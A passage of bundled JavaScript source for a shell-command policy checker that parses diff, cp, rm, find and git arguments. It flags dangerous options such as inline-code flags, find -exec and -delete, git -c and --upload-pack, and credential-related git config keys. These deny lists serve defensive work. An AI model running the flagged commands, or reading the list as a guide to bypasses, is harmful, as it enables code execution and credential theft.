  { program: "php", option: "-R", reason: INLINE, example: "php -R 'echo 1;'" },
  { program: "php", option: "-E", reason: INLINE, example: "php -E 'echo 1;'" },
  { program: "lua", option: "-e", reason: INLINE, example: "lua -e 'print(1)'" },
  {
    program: "zsh",
    option: "-c",
    reason: `${INLINE}; zsh scripts are not analysed (zsh globs and expansions can run code where bash's do not)`,
    example: "zsh -c 'ls'"
  },
  { program: "ksh", option: "-c", reason: `${INLINE}; ksh scripts are not analysed`, example: "ksh -c 'ls'" },
  {
    program: "fish",
    option: "-c",
    reason: `${INLINE}; fish scripts are not analysed`,
    example: "fish -c 'ls'"
  },
  {
    program: "bash",
    option: "-c",
    reason: `${INLINE} without its script being analysed (the shell is named by a path, or has options under which its scripts are not followed)`,
    example: "bash -i -c 'ls'"
  },
  {
    program: "csh",
    option: "-c",
    reason: `${INLINE}; csh scripts are not analysed`,
    example: "tcsh -c 'ls'"
  },
  ...READ_ROWS,
  ...RUNNER_ROWS,
  // any program
  {
    program: "*",
    option: "<option-like glob>",
    reason: "is an unquoted glob that starts with '-', so whatever it matches reaches the program as an option; quote it if the program should get the pattern, or write ./ before a pattern of file names",
    example: "cat -*.ts"
  }
];
function dangerousOption(program, option, token) {
  const row = DANGEROUS_OPTIONS.find(
    (r) => (r.program === program || r.program === "*") && r.option === option
  );
  if (row === void 0) throw new Error(`no dangerous-option row for ${program} ${option}`);
  return { option: row.option.startsWith("<") ? token : row.option, reason: row.reason, token };
}
var spellingsOf = /* @__PURE__ */ new Map();
function dangerousSpellings(program) {
  let spellings = spellingsOf.get(program);
  if (spellings === void 0) {
    spellings = DANGEROUS_OPTIONS.filter((r) => r.program === program && r.option.startsWith("-")).map(
      (r) => r.option
    );
    spellingsOf.set(program, spellings);
  }
  return spellings;
}

// src/policy/shell/programs/diff.ts
import { basename } from "node:path";

// src/policy/shell/options.ts
var longOptionsOf = /* @__PURE__ */ new WeakMap();
function knownLongOptions(spec) {
  let known = longOptionsOf.get(spec);
  if (known === void 0) {
    const fromPaths = Object.keys(spec.pathOptions ?? {}).filter((name) => name.startsWith("--"));
    const set2 = /* @__PURE__ */ new Set([...spec.longArgs ?? [], ...spec.longFlags ?? [], ...fromPaths]);
    known = { names: [...set2], set: set2 };
    longOptionsOf.set(spec, known);
  }
  return known;
}
function longCandidates(written, spec, known = knownLongOptions(spec)) {
  if (known.set.has(written)) return [written];
  if (spec.abbreviations === false) return [];
  return known.names.filter((name) => name.startsWith(written));
}
function takesValue(name, spec) {
  return spec.longArgs?.includes(name) === true || spec.pathOptions?.[name] !== void 0;
}
function scanArguments(args, spec) {
  const options = [];
  const operands = [];
  const afterDoubleDash = /* @__PURE__ */ new Set();
  let optionsEnded = false;
  const known = knownLongOptions(spec);
  for (let i = 0; i < args.length; i++) {
    const word = args[i];
    const token = word.value;
    if (optionsEnded || word.processSubstitution || token === "-" || !token.startsWith("-")) {
      operands.push(word);
      if (optionsEnded) afterDoubleDash.add(word);
      if (spec.optionsFirst === true) optionsEnded = true;
      continue;
    }
    if (token === "--") {
      optionsEnded = true;
      continue;
    }
    if (token.startsWith("--")) {
      const eq = token.indexOf("=");
      const written = eq === -1 ? token : token.slice(0, eq);
      const candidates = longCandidates(written, spec, known);
      const name = candidates.length === 1 ? candidates[0] : written;
      let value = eq === -1 ? void 0 : token.slice(eq + 1);
      let valueWord;
      if (value === void 0 && candidates.length === 1 && takesValue(name, spec) && i + 1 < args.length) {
        valueWord = args[++i];
        value = valueWord?.value;
      }
      options.push({
        name,
        candidates: candidates.length > 0 ? candidates : [written],
        token,
        value,
        valueWord
      });
      continue;
    }
    for (let j = 1; j < token.length; j++) {
      const letter = token[j];
      const name = `-${letter}`;
      if ((spec.shortArgs ?? "").includes(letter) || (spec.pathOptions ?? {})[name] !== void 0) {
        let value = token.slice(j + 1);
        let valueWord;
        if (value === "") {
          valueWord = args[i + 1];
          value = valueWord?.value;
          if (valueWord !== void 0) i++;
        }
        options.push({ name, candidates: [name], token, value, valueWord });
        break;
      }
      options.push({ name, candidates: [name], token, value: void 0, valueWord: void 0 });
    }
  }
  return { options, operands, afterDoubleDash };
}
function hasOption(scan, ...names) {
  return scan.options.some((option) => option.candidates.some((candidate) => names.includes(candidate)));
}

// src/policy/shell/programs/generic.ts
function scanProgram(program, args, spec) {
  return scanArguments(args, withDangerousOptions(program, spec));
}
var extendedSpecs = /* @__PURE__ */ new WeakMap();
function withDangerousOptions(program, spec) {
  let byProgram = extendedSpecs.get(spec);
  if (byProgram === void 0) extendedSpecs.set(spec, byProgram = /* @__PURE__ */ new Map());
  let extended = byProgram.get(program);
  if (extended === void 0) {
    const known = /* @__PURE__ */ new Set([
      ...spec.longArgs ?? [],
      ...spec.longFlags ?? [],
      ...Object.keys(spec.pathOptions ?? {})
    ]);
    const extra = dangerousSpellings(program).filter(
      (option) => option.startsWith("--") && !known.has(option)
    );
    extended = extra.length === 0 ? spec : { ...spec, longFlags: [...spec.longFlags ?? [], ...extra] };
    byProgram.set(program, extended);
  }
  return extended;
}
function flaggedOptions(program, scan, family = program) {
  const spellings = dangerousSpellings(family);
  const flagged = /* @__PURE__ */ new Map();
  for (const option of scan.options) {
    for (const candidate of option.candidates) {
      if (spellings.includes(candidate) && !flagged.has(candidate))
        flagged.set(candidate, dangerousOption(family, candidate, option.token));
    }
  }
  return [...flagged.values()];
}
function optionPaths(scan, spec, ctx) {
  const uses = [];
  for (const option of scan.options) {
    if (option.value === void 0) continue;
    for (const candidate of option.candidates) {
      const kind = spec.pathOptions?.[candidate];
      if (kind !== void 0)
        uses.push(...pathUses(kind, option.value, "operand", ctx, option.valueWord ?? false));
    }
  }
  return uses;
}
function operandsAs(kind, operands, ctx) {
  const uses = [];
  for (const word of operands) uses.push(...operandPaths(kind, word, ctx));
  return uses;
}
function withTree(uses, tree) {
  return uses.map((use) => use.kind === "read" ? { ...use, tree } : use);
}
function cwdRead(ctx) {
  return pathUses("read", ".", "operand", ctx);
}
function fileProgram(program, spec) {
  return (args, ctx) => {
    const scan = scanProgram(program, args, spec);
    const kind = spec.operands ?? "read";
    const paths = optionPaths(scan, spec, ctx);
    if (kind !== "none") paths.push(...operandsAs(kind, scan.operands, ctx));
    if (spec.defaultsToCwd === true && scan.operands.length === 0) paths.push(...cwdRead(ctx));
    const notReadOnly = scan.options.some(
      (o) => o.candidates.some((c) => spec.notReadOnlyWith?.includes(c) === true)
    );
    const dangerous = flaggedOptions(program, scan);
    const response = spec.responseFiles === true ? scan.operands.find((w) => w.value.startsWith("@")) : void 0;
    if (response !== void 0) dangerous.push(dangerousOption(program, "<response file>", response.value));
    return { paths, dangerous, readOnly: (spec.readOnly ?? true) && !notReadOnly };
  };
}

// src/policy/shell/programs/diff.ts
var DIFF = {
  shortArgs: "CUILFSxXWD",
  longArgs: [
    "--context",
    "--unified",
    "--ignore-matching-lines",
    "--label",
    "--show-function-line",
    "--starting-file",
    "--exclude",
    "--width",
    "--ifdef",
    "--tabsize",
    "--line-format",
    "--old-line-format",
    "--new-line-format",
    "--unchanged-line-format",
    "--old-group-format",
    "--new-group-format",
    "--changed-group-format",
    "--unchanged-group-format",
    "--horizon-lines",
    "--palette"
  ],
  longFlags: ["--recursive", "--no-dereference", "--new-file", "--unidirectional-new-file"],
  pathOptions: { "-X": "read", "--exclude-from": "read", "--from-file": "read", "--to-file": "read" }
};
function crossedNames(sides, ctx) {
  const uses = [];
  for (const dir of sides)
    for (const other of sides)
      if (dir !== other && basename(other.value) !== "" && !other.value.endsWith("/"))
        uses.push(
          ...pathUses(
            "read",
            `${dir.value}/${basename(other.value)}`,
            "operand",
            ctx,
            dir.glob || other.glob
          )
        );
  return uses;
}
var diffProgram = (args, ctx) => {
  const scan = scanProgram("diff", args, DIFF);
  const fromTo = scan.options.filter((o) => o.candidates.length === 1 && (o.name === "--from-file" || o.name === "--to-file")).flatMap((o) => o.value === void 0 ? [] : [o.value]);
  const sides = [
    ...scan.operands.filter((w) => !w.processSubstitution && w.value !== "-"),
    ...fromTo.map((value) => ({ value, glob: false }))
  ];
  const operands = operandsAs("read", scan.operands, ctx);
  const tree = {
    reader: "diff -r",
    follow: !hasOption(scan, "--no-dereference"),
    hint: "compare named files, or directories that hold no secret-like files"
  };
  const recursive = hasOption(scan, "-r", "--recursive");
  const paths = [
    ...recursive ? withTree(optionPaths(scan, DIFF, ctx), tree) : optionPaths(scan, DIFF, ctx),
    ...recursive ? withTree(operands, tree) : operands,
    ...crossedNames(sides, ctx)
  ];
  return { paths, dangerous: flaggedOptions("diff", scan), readOnly: true };
};

// src/policy/shell/programs/file-ops.ts
import { posix as posix2 } from "node:path";
var COPY = {
  shortArgs: "Smogt",
  longArgs: [
    "--suffix",
    "--sparse",
    "--no-preserve",
    "--mode",
    "--owner",
    "--group",
    "--strip-program",
    "--target-directory"
  ],
  longFlags: ["--recursive", "--archive", "--dereference", "--no-target-directory"]
};
function copiedTree(program, scan) {
  if (program !== "cp" || !hasOption(scan, "-r", "-R", "-a", "--recursive", "--archive")) return void 0;
  return {
    reader: "cp -r",
    follow: hasOption(scan, "-L", "--dereference"),
    hint: "copy directories that hold no secret-like files, or name the files"
  };
}
var replacing = (uses, replaces) => uses.map((use) => ({ ...use, replaces }));
function nameOf(word) {
  const name = posix2.basename(word.value);
  return name === "." || name === ".." ? "" : name;
}
function targetDirectories(scan, ctx) {
  return scan.options.flatMap(
    (option) => option.candidates.some((c) => c === "-t" || c === "--target-directory") && option.value !== void 0 ? pathUses("write", option.value, "operand", ctx, option.valueWord ?? false) : []
  );
}
function copyProgram(program, sources) {
  return (args, ctx) => {
    const scan = scanProgram(program, args, COPY);
    const paths = optionPaths(scan, COPY, ctx);
    const hasTarget = hasOption(scan, "-t", "--target-directory");
    const allWrite = program === "install" && hasOption(scan, "-d", "--directory");
    const operands = scan.operands;
    const linkHere = program === "ln" && !hasTarget && operands.length === 1;
    const targets = hasTarget || allWrite || linkHere ? [] : operands.slice(-1);
    const rest = hasTarget || allWrite || linkHere ? operands : operands.slice(0, -1);
    const tree = copiedTree(program, scan);
    const read = operandsAs(allWrite ? "write" : sources, rest, ctx);
    const moved = program === "mv" ? replacing(read, { writer: "mv", kind: "below" }) : read;
    paths.push(...tree === void 0 ? moved : withTree(moved, tree));
    if (allWrite) return { paths, dangerous: flaggedOptions(program, scan), readOnly: false };
    const replaces = {
      writer: program,
      kind: program === "ln" ? "link" : "copy",
      sources: rest.map((word) => ({ uses: operandPaths(sources, word, ctx), name: nameOf(word) })),
      into: hasTarget || linkHere ? "inside" : hasOption(scan, "-T", "--no-target-directory") ? "self" : "either"
    };
    const destinations = [
      ...hasTarget ? targetDirectories(scan, ctx) : [],
      ...linkHere ? pathUses("write", ".", "operand", ctx) : operandsAs("write", targets, ctx)
    ];
    paths.push(...replacing(destinations, replaces));
    return { paths, dangerous: flaggedOptions(program, scan), readOnly: false };
  };
}
var MODE = {
  longArgs: ["--from"],
  longFlags: ["--recursive"],
  pathOptions: { "--reference": "read" }
};
var looksLikeMode = (token) => /^-[cfvRHLPrwxXstugoa0-7=+,-]+$/.test(token) && /[rwxXstugoa0-7=+,]/.test(token.slice(1));
function modeProgram(program) {
  return (args, ctx) => {
    const scan = scanProgram(program, args, MODE);
    const modeAsOption = program === "chmod" && scan.options.some((o) => looksLikeMode(o.token));
    const files = hasOption(scan, "--reference") || modeAsOption ? scan.operands : scan.operands.slice(1);
    const writes = operandsAs("write", files, ctx);
    const recursive = hasOption(scan, "-R", "--recursive");
    return {
      paths: [
        ...optionPaths(scan, MODE, ctx),
        ...recursive ? replacing(writes, { writer: `${program} -R`, kind: "below" }) : writes
      ],
      dangerous: flaggedOptions(program, scan),
      readOnly: false
    };
  };
}
var REMOVE = {
  longFlags: ["--recursive", "--force", "--dir", "--interactive", "--one-file-system", "--verbose"]
};
var rmProgram = (args, ctx) => {
  const scan = scanProgram("rm", args, REMOVE);
  const writes = operandsAs("write", scan.operands, ctx);
  const recursive = hasOption(scan, "-r", "-R", "--recursive");
  return {
    paths: recursive ? replacing(writes, { writer: "rm -r", kind: "below" }) : writes,
    dangerous: flaggedOptions("rm", scan),
    readOnly: false
  };
};
var ddProgram = (args, ctx) => {
  const paths = args.flatMap((word) => {
    const match = /^(if|of)=(.*)$/s.exec(word.value);
    if (match === null) return [];
    return pathUses(match[1] === "if" ? "read" : "write", match[2], "operand", ctx, word);
  });
  return { paths, dangerous: [], readOnly: false };
};
var UNIQ = {
  shortArgs: "fsw",
  longArgs: ["--skip-fields", "--skip-chars", "--check-chars", "--all-repeated", "--group"]
};
var uniqProgram = (args, ctx) => {
  const scan = scanProgram("uniq", args, UNIQ);
  const [input, output, ...extra] = scan.operands;
  const paths = [
    ...input ? operandPaths("read", input, ctx) : [],
    ...output ? operandPaths("write", output, ctx) : [],
    ...operandsAs("read", extra, ctx)
  ];
  return { paths, dangerous: flaggedOptions("uniq", scan), readOnly: true };
};
var XXD = { abbreviations: false, shortArgs: "cglosnC" };
var xxdProgram = (args, ctx) => {
  const scan = scanProgram("xxd", args, XXD);
  const [input, output, ...extra] = scan.operands;
  const paths = [
    ...input ? operandPaths("read", input, ctx) : [],
    ...output ? operandPaths("write", output, ctx) : [],
    ...operandsAs("read", extra, ctx)
  ];
  return { paths, dangerous: [], readOnly: true };
};
var FILE_OPERATIONS = {
  rm: rmProgram,
  cp: copyProgram("cp", "read"),
  install: copyProgram("install", "read"),
  mv: copyProgram("mv", "write"),
  ln: copyProgram("ln", "write"),
  chmod: modeProgram("chmod"),
  chown: modeProgram("chown"),
  chgrp: modeProgram("chgrp"),
  dd: ddProgram,
  uniq: uniqProgram,
  xxd: xxdProgram
};

// src/policy/shell/programs/find.ts
var NO_ARGUMENT = /* @__PURE__ */ new Set([
  "-depth",
  "-d",
  "-follow",
  "-mount",
  "-xdev",
  "-noleaf",
  "-ignore_readdir_race",
  "-noignore_readdir_race",
  "-daystart",
  "-warn",
  "-nowarn",
  "-empty",
  "-executable",
  "-readable",
  "-writable",
  "-false",
  "-true",
  "-nogroup",
  "-nouser",
  "-print",
  "-print0",
  "-ls",
  "-prune",
  "-quit",
  "-not",
  "-a",
  "-and",
  "-o",
  "-or",
  "!",
  "(",
  ")",
  ",",
  "-help",
  "--help",
  "-version",
  "--version"
]);
var ONE_ARGUMENT = /* @__PURE__ */ new Set([
  "-maxdepth",
  "-mindepth",
  "-amin",
  "-atime",
  "-cmin",
  "-ctime",
  "-mmin",
  "-mtime",
  "-fstype",
  "-gid",
  "-group",
  "-uid",
  "-user",
  "-ilname",
  "-iname",
  "-inum",
  "-ipath",
  "-iregex",
  "-iwholename",
  "-links",
  "-lname",
  "-name",
  "-path",
  "-perm",
  "-regex",
  "-regextype",
  "-size",
  "-type",
  "-xtype",
  "-used",
  "-wholename",
  "-context",
  "-printf"
]);
var FILE_ARGUMENT = /* @__PURE__ */ new Set(["-anewer", "-cnewer", "-newer", "-samefile", "-files0-from"]);
var WRITES_ONE = /* @__PURE__ */ new Set(["-fprint", "-fprint0", "-fls"]);
var EXEC = /* @__PURE__ */ new Set(["-exec", "-execdir", "-ok", "-okdir"]);
var LEADING_FLAGS = /* @__PURE__ */ new Set(["-H", "-L", "-P"]);
var findProgram = (args, ctx) => {
  const paths = [];
  const dangerous = [];
  let i = 0;
  for (; i < args.length; i++) {
    const token = args[i].value;
    if (LEADING_FLAGS.has(token) || /^-O\d*$/.test(token)) continue;
    if (token === "-D") {
      i++;
      continue;
    }
    if (token === "--") {
      i++;
    }
    break;
  }
  let starts = 0;
  for (; i < args.length; i++) {
    const word = args[i];
    const token = word.value;
    if (!word.processSubstitution && (token.startsWith("-") || token === "(" || token === "!")) break;
    paths.push(...operandPaths("read", word, ctx));
    starts++;
  }
  if (starts === 0) paths.push(...cwdRead(ctx));
  for (; i < args.length; i++) {
    const word = args[i];
    const token = word.value;
    if (NO_ARGUMENT.has(token)) continue;
    if (ONE_ARGUMENT.has(token) || /^-newer[aBcm]t$/.test(token)) {
      i++;
      continue;
    }
    if (FILE_ARGUMENT.has(token) || /^-newer[aBcm][aBcm]$/.test(token)) {
      if (token === "-files0-from") dangerous.push(dangerousOption("find", token, token));
      const file = args[++i];
      if (file !== void 0) paths.push(...operandPaths("read", file, ctx));
      continue;
    }
    if (token === "-delete") {
      dangerous.push(dangerousOption("find", token, token));
      continue;
    }
    if (WRITES_ONE.has(token) || token === "-fprintf") {
      dangerous.push(dangerousOption("find", token, token));
      const file = args[++i];
      if (file !== void 0) paths.push(...pathUses("write", file.value, "operand", ctx, file));
      if (token === "-fprintf") i++;
      continue;
    }
    if (EXEC.has(token)) {
      dangerous.push(dangerousOption("find", token, token));
      while (i + 1 < args.length && !args[i + 1].value.match(/^[;+]$/)) i++;
      i++;
      continue;
    }
    if (token.startsWith("-")) {
      dangerous.push(dangerousOption("find", "<predicate>", token));
      continue;
    }
    paths.push(...operandPaths("read", word, ctx));
  }
  return { paths, dangerous, readOnly: true };
};

// src/policy/shell/programs/git-commands.ts
var GIT_COMMANDS = /* @__PURE__ */ new Set([
  "add",
  "am",
  "annotate",
  "apply",
  "archimport",
  "archive",
  "backfill",
  "bisect",
  "blame",
  "branch",
  "bugreport",
  "bundle",
  "cat-file",
  "check-attr",
  "check-ignore",
  "check-mailmap",
  "check-ref-format",
  "checkout",
  "checkout-index",
  "cherry",
  "cherry-pick",
  "citool",
  "clean",
  "clone",
  "column",
  "commit",
  "commit-graph",
  "commit-tree",
  "config",
  "count-objects",
  "credential",
  "credential-cache",
  "credential-store",
  "cvsexportcommit",
  "cvsimport",
  "cvsserver",
  "daemon",
  "describe",
  "diagnose",
  "diff",
  "diff-files",
  "diff-index",
  "diff-tree",
  "difftool",
  "fast-export",
  "fast-import",
  "fetch",
  "fetch-pack",
  "filter-branch",
  "fmt-merge-msg",
  "for-each-ref",
  "for-each-repo",
  "format-patch",
  "fsck",
  "fsck-objects",
  "fsmonitor--daemon",
  "gc",
  "get-tar-commit-id",
  "grep",
  "gui",
  "hash-object",
  "help",
  "hook",
  "http-backend",
  "http-fetch",
  "http-push",
  "imap-send",
  "index-pack",
  "init",
  "init-db",
  "instaweb",
  "interpret-trailers",
  "last-modified",
  "log",
  "ls-files",
  "ls-remote",
  "ls-tree",
  "mailinfo",
  "mailsplit",
  "maintenance",
  "merge",
  "merge-base",
  "merge-file",
  "merge-index",
  "merge-octopus",
  "merge-one-file",
  "merge-ours",
  "merge-recursive",
  "merge-recursive-ours",
  "merge-recursive-theirs",
  "merge-resolve",
  "merge-subtree",
  "merge-tree",
  "mergetool",
  "mktag",
  "mktree",
  "multi-pack-index",
  "mv",
  "name-rev",
  "notes",
  "p4",
  "pack-objects",
  "pack-redundant",
  "pack-refs",
  "patch-id",
  "pickaxe",
  "prune",
  "prune-packed",
  "pull",
  "push",
  "quiltimport",
  "range-diff",
  "read-tree",
  "rebase",
  "receive-pack",
  "reflog",
  "refs",
  "remote",
  "remote-ext",
  "remote-fd",
  "remote-ftp",
  "remote-ftps",
  "remote-http",
  "remote-https",
  "repack",
  "replace",
  "replay",
  "repo",
  "request-pull",
  "rerere",
  "reset",
  "restore",
  "rev-list",
  "rev-parse",
  "revert",
  "rm",
  "send-email",
  "send-pack",
  "shell",
  "shortlog",
  "show",
  "show-branch",
  "show-index",
  "show-ref",
  "sparse-checkout",
  "stage",
  "stash",
  "status",
  "stripspace",
  "submodule",
  "subtree",
  "svn",
  "switch",
  "symbolic-ref",
  "tag",
  "unpack-file",
  "unpack-objects",
  "update-index",
  "update-ref",
  "update-server-info",
  "upload-archive",
  "upload-pack",
  "var",
  "verify-commit",
  "verify-pack",
  "verify-tag",
  "version",
  "whatchanged",
  "worktree",
  "write-tree"
]);

// src/policy/shell/programs/git-reads.ts
import { posix as posix3 } from "node:path";
var PRINTS_CONTENT = /* @__PURE__ */ new Set([
  "log",
  "show",
  "whatchanged",
  "diff",
  "diff-tree",
  "diff-index",
  "diff-files",
  "blame",
  "annotate",
  "grep",
  "cat-file",
  "range-diff",
  "stash"
]);
var GLOB_CHARACTERS = /[*?[]/;
var PATHSPEC_MAGIC = /^:[(!^]/;
function blobPath(value) {
  if (value.startsWith(":/") || PATHSPEC_MAGIC.test(value)) return void 0;
  return /^([^:]*):(.+)$/.exec(value)?.[2];
}
function blobPaths(operands, ctx, cwds) {
  const uses = [];
  for (const word of operands) {
    const path = blobPath(word.value);
    if (path === void 0) continue;
    const relativeToCwd = path.startsWith("./") || path.startsWith("../");
    const base = relativeToCwd ? cwds : [ctx.env.workspaceRoot];
    uses.push(...pathUses("read", posix3.isAbsolute(path) ? `.${path}` : path, "operand", { cwds: base }));
  }
  return uses;
}
function pathspecReads(subcommand, operands, cwds) {
  const paths = [];
  const dangerous = [];
  if (!PRINTS_CONTENT.has(subcommand) || subcommand === "cat-file") return { paths, dangerous };
  for (const word of operands) {
    if (word.processSubstitution) continue;
    const value = word.value;
    if (GLOB_CHARACTERS.test(value) || PATHSPEC_MAGIC.test(value)) {
      if (!dangerous.some((d) => d.token === value))
        dangerous.push(dangerousOption("git", "<pathspec pattern>", value));
      continue;
    }
    if (blobPath(value) !== void 0) continue;
    const path = value.startsWith(":/") ? value.slice(2) || "." : value;
    paths.push(...pathUses("read", path, "operand", { cwds }));
  }
  return { paths, dangerous };
}
function namesCommit(value) {
  if (/^[0-9a-f]{4,64}$/i.test(value)) return false;
  if (/\^\{(?:blob|)\}/.test(value)) return false;
  return /^[A-Za-z0-9_./@{}~^-]+$/.test(value) && !value.startsWith("-");
}
var CAT_FILE_TYPES = /* @__PURE__ */ new Set(["blob", "tree", "commit", "tag"]);
function catFileFindings(scan, args) {
  const found = [];
  const batch = args.find((word) => /^--batch(?:-command)?(?:=|$)/.test(word.value));
  if (batch !== void 0) found.push(dangerousOption("git", "<object>", batch.value));
  const [first, ...rest] = scan.operands;
  const typed = first !== void 0 && CAT_FILE_TYPES.has(first.value);
  const printing = typed || scan.options.some((o) => o.name === "-p");
  if (!printing) return found;
  for (const word of typed ? rest : scan.operands)
    if (blobPath(word.value) === void 0 && (typed || !namesCommit(word.value)))
      found.push(dangerousOption("git", "<object>", word.value));
  return found;
}
var CREDENTIAL_KEY = /^(?:http\.|https\.|credential\.|url\.|include\.|includeif\.)|extraheader|token|passw|secret|cookie|auth|private|key$/i;
var URL_KEY = /^remote\..+\.(?:push)?url$/i;
var CONFIG_QUERY_FLAGS = /* @__PURE__ */ new Set([
  "--get",
  "--get-all",
  "--all",
  "--local",
  "--global",
  "--system",
  "--worktree",
  "--show-origin",
  "--show-scope",
  "--show-names",
  "--null",
  "-z",
  "--includes",
  "--no-includes",
  "--bool",
  "--int",
  "--bool-or-int",
  "--path",
  "--expiry-date",
  "--type",
  "--default",
  "--value",
  "--fixed-value",
  "--name-only"
]);
var CONFIG_LISTING = /* @__PURE__ */ new Set([
  "-l",
  "--list",
  "--get-regexp",
  "--get-urlmatch",
  "--regexp",
  "--url",
  "list",
  "get-regexp"
]);
var NOT_A_QUERY = { readOnly: false, dangerous: [], printsUrls: false };
function configQuery(args) {
  const operands = [];
  const options = [];
  for (let i = 0; i < args.length; i++) {
    const value = args[i].value;
    const name = value.split("=")[0];
    if (CONFIG_LISTING.has(name))
      return { ...NOT_A_QUERY, dangerous: [dangerousOption("git", "<config listing>", value)] };
    if (!value.startsWith("-")) operands.push(value);
    else {
      options.push(name);
      if ((name === "--type" || name === "--default") && !value.includes("=")) i++;
    }
  }
  if (!options.every((name) => CONFIG_QUERY_FLAGS.has(name))) return NOT_A_QUERY;
  const getOption = options.includes("--get") || options.includes("--get-all");
  const names = operands[0] === "get" ? operands.slice(1) : operands;
  const most = getOption ? 2 : 1;
  const key = names[0];
  if (key === void 0 || names.length > most) return NOT_A_QUERY;
  if (CREDENTIAL_KEY.test(key))
    return { ...NOT_A_QUERY, dangerous: [dangerousOption("git", "<credential key>", key)] };
  return { readOnly: true, dangerous: [], printsUrls: URL_KEY.test(key) };
}
function remoteQuery(args) {
  const values = args.map((word) => word.value);
  if (values.every((v) => v === "-v" || v === "--verbose"))
    return { readOnly: true, printsUrls: values.length > 0 };
  if (values[0] === "get-url" && values.slice(1).filter((v) => !v.startsWith("-")).length === 1)
    return {
      readOnly: values.slice(1).every((v) => !v.startsWith("-") || v === "--push" || v === "--all"),
      printsUrls: true
    };
  return { readOnly: false, printsUrls: false };
}

// src/policy/shell/programs/git.ts
var GLOBAL_DANGEROUS_LONG = [
  "--config-env",
  "--exec-path",
  "--paginate",
  "--git-dir",
  "--bare",
  "--work-tree"
];
var GLOBAL_WITH_VALUE = /* @__PURE__ */ new Set([
  "--git-dir",
  "--work-tree",
  "--namespace",
  "--super-prefix",
  "--config-env",
  "--list-cmds",
  "--attr-source"
]);
var SUBCOMMAND_DANGEROUS_LONG = [
  "--output",
  "--ext-diff",
  "--textconv",
  "--upload-pack",
  "--receive-pack",
  "--exec",
  "--open-files-in-pager",
  "--filters",
  "--config",
  "--extcmd"
];
var EXACT_SAFE = /* @__PURE__ */ new Set(["--text", "--filter"]);
function prefixesOf(rows2) {
  const prefixes = /* @__PURE__ */ new Map();
  for (const row of rows2)
    for (let end = 3; end <= row.length; end++) {
      const prefix = row.slice(0, end);
      const matching = prefixes.get(prefix) ?? [];
      if (!matching.includes(row)) matching.push(row);
      prefixes.set(prefix, matching);
    }
  return prefixes;
}
var GLOBAL_DANGEROUS_PREFIXES = prefixesOf(GLOBAL_DANGEROUS_LONG);
var SUBCOMMAND_DANGEROUS_PREFIXES = prefixesOf(SUBCOMMAND_DANGEROUS_LONG);
function dangerousLong(token, prefixes) {
  if (!token.startsWith("--") || token === "--") return [];
  const eq = token.indexOf("=");
  const name = eq === -1 ? token : token.slice(0, eq);
  if (EXACT_SAFE.has(name) || name.length < 3) return [];
  return prefixes.get(name) ?? [];
}
var READ_ONLY = /* @__PURE__ */ new Set([
  "status",
  "diff",
  "log",
  "show",
  "rev-parse",
  "ls-files",
  "ls-tree",
  "blame",
  "annotate",
  "shortlog",
  "describe",
  "rev-list",
  "cat-file",
  "merge-base",
  "name-rev",
  "show-ref",
  "for-each-ref",
  "diff-tree",
  "diff-files",
  "diff-index",
  "show-branch",
  "check-ignore",
  "check-attr",
  "check-mailmap",
  "check-ref-format",
  "count-objects",
  "grep",
  "whatchanged",
  "version",
  "range-diff",
  "cherry"
]);
var BRANCH_LISTING = /* @__PURE__ */ new Set([
  "-a",
  "--all",
  "-r",
  "--remotes",
  "-l",
  "--list",
  "-v",
  "-vv",
  "--verbose",
  "-q",
  "--quiet",
  "--contains",
  "--no-contains",
  "--merged",
  "--no-merged",
  "--points-at",
  "--sort",
  "--format",
  "--column",
  "--no-column",
  "--color",
  "--no-color",
  "--show-current",
  "--abbrev",
  "--no-abbrev",
  "-i",
  "--ignore-case",
  "--omit-empty"
]);
var TAG_LISTING = /* @__PURE__ */ new Set([
  "-l",
  "--list",
  "--contains",
  "--no-contains",
  "--merged",
  "--no-merged",
  "--points-at",
  "--sort",
  "--format",
  "--column",
  "--no-column",
  "--color",
  "-i",
  "--ignore-case",
  "--omit-empty"
]);
var SUBCOMMAND_SPEC = {
  shortArgs: "",
  longArgs: [
    "--format",
    "--pretty",
    "--author",
    "--committer",
    "--grep",
    "--since",
    "--until",
    "--after",
    "--before",
    "--max-count",
    "--skip",
    "--sort",
    "--abbrev",
    "--points-at",
    "--contains",
    "--merged",
    "--no-merged"
  ],
  pathOptions: { "--contents": "read", "--ignore-revs-file": "read", "--exclude-from": "read" }
};
function onlyListing(scan, allowed) {
  const longs = [...allowed].filter((name) => name.startsWith("--"));
  const listingOption = scan.options.every((option) => {
    if (!option.token.startsWith("--"))
      return allowed.has(option.name) || allowed === TAG_LISTING && /^-[n0-9]$/.test(option.name);
    const written = option.token.split("=")[0];
    return longs.some((name) => name.startsWith(written));
  });
  const list = scan.options.some(
    (option) => option.name === "-l" || option.token.startsWith("--l") && "--list".startsWith(option.token)
  );
  return listingOption && (scan.operands.length === 0 || list);
}
function subcommandReadOnly(subcommand, scan, rest) {
  if (READ_ONLY.has(subcommand)) return true;
  const first = scan.operands[0]?.value;
  switch (subcommand) {
    case "config":
      return configQuery(rest).readOnly;
    case "remote":
      return remoteQuery(rest).readOnly;
    case "branch":
      return onlyListing(scan, BRANCH_LISTING);
    case "tag":
      return onlyListing(scan, TAG_LISTING);
    case "stash":
      return first === "list" || first === "show";
    case "worktree":
      return first === "list";
    case "reflog":
      return !["expire", "delete", "drop", "write"].includes(first ?? "show");
    default:
      return false;
  }
}
function flagOnce(dangerous, option, token) {
  if (!dangerous.some((d) => d.option === option)) dangerous.push(dangerousOption("git", option, token));
}
function readGlobalOptions(args, ctx) {
  const paths = [];
  const dangerous = [];
  const named = [];
  let cwds = ctx.cwds;
  let i = 0;
  for (; i < args.length; i++) {
    const token = args[i].value;
    if (!token.startsWith("-")) break;
    if (token === "-C") {
      const dir = args[++i];
      if (dir !== void 0) {
        paths.push(...operandPaths("read", dir, { cwds }));
        cwds = directoryCandidates(dir.value, cwds);
      }
      continue;
    }
    if (token.startsWith("-c") && !token.startsWith("--")) {
      flagOnce(dangerous, "-c", token);
      if (token === "-c") i++;
      continue;
    }
    if (token === "-p") {
      flagOnce(dangerous, "-p", token);
      continue;
    }
    for (const option of dangerousLong(token, GLOBAL_DANGEROUS_PREFIXES)) flagOnce(dangerous, option, token);
    const name = token.split("=")[0];
    let value;
    if (GLOBAL_WITH_VALUE.has(name) && !token.includes("=")) value = args[++i];
    const valueText = token.includes("=") ? token.slice(token.indexOf("=") + 1) : value?.value;
    if ((name === "--git-dir" || name === "--work-tree") && valueText !== void 0) {
      paths.push(...pathUses("read", valueText, "operand", { cwds }));
      named.push(...directoryCandidates(valueText, cwds));
    }
  }
